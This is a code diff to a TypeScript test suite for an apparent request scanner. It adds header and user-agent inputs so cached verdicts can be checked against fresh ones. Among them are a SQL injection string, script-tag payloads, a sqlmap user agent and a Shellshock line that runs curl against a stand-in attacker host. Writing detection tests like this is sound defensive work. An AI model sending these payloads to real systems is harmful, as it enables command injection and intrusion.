@@ -18,6 +18,13 @@ describe('Scan with remembered verdicts', () => {
     "1' or '1'='1",
     'x'.repeat(70),
     `<script>${'x'.repeat(70)}`,
+    // Header values and user agents are remembered up to 256 characters: a browser's, and
+    // attacks of that length, fire (or not) the same the first time and when remembered.
+    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
+    'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8',
+    `() { :; }; /bin/bash -c 'curl http://attacker.example/${'a'.repeat(120)}'`,
+    `sqlmap/1.8 (https://sqlmap.org) ${'b'.repeat(200)}`,
+    `${'c'.repeat(250)}<script>`,
   ]
   const kinds: InputKind[] = ['name', 'path', 'header', 'user-agent', 'query']
 
